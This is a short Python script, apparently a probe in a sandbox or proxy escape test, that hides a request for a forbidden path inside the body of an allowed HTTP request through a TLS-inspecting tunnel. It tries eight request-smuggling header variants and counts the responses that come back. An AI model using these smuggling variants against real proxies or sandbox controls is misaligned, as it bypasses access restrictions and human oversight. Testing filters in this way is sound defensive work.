"""Hides a second request in the body of an allowed one, where TLS is looked into: two lengths, pieces and a length, bare line ends."""
# outside: escapes

from attempt import attempt
from proxied import FORBIDDEN, OTHER, origins, tunnel, within

HIDDEN = f"GET /{FORBIDDEN} HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n"


@attempt
def main():
    found = []
    size = len(HIDDEN) + 5
    for fields, body in (
        (f"Content-Length: {size}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
        (f"Content-Length: 0\r\nContent-Length: {size}\r\n", ""),
        ("Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n", ""),
        ("Transfer-Encoding : chunked\r\nContent-Length: 0\r\n", ""),
        ("X-A: b\r\n Content-Length: 0\r\n", ""),
        ("X-A: b\n\n", ""),
        ("Content-Length: 0\r\n", ""),
        ("Upgrade: websocket\r\nConnection: Upgrade\r\n", ""),
    ):
        talk = tunnel(f"{OTHER}:443")
        request = f"GET /public/first HTTP/1.1\r\nHost: {OTHER}\r\n{fields}\r\n{body}{HIDDEN}"
        raw = within(talk, OTHER, request.encode(), whole=True) if talk else b""
        found += [f"{fields!r}: {len(origins(raw))} answers"] if len(origins(raw)) > 1 else []
    return found
